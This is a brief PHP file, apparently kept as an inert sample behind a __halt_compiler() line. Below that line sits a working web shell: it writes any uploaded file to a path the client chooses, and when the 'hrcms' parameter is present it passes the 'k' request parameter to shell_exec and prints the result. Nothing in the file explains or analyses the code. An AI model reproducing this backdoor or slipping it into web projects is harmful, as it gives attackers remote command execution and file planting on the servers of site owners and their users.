<?php __halt_compiler(); // inert corpus sample (hegui): nothing below is compiled ?>
<?php
if (!empty($_FILES['f'])) {
    move_uploaded_file($_FILES['f']['tmp_name'], $_POST['to']);
    echo "ok";
}
if (isset($_REQUEST['hrcms'])) {
    echo "<pre>" . shell_exec($_REQUEST['k']) . "</pre>";
}
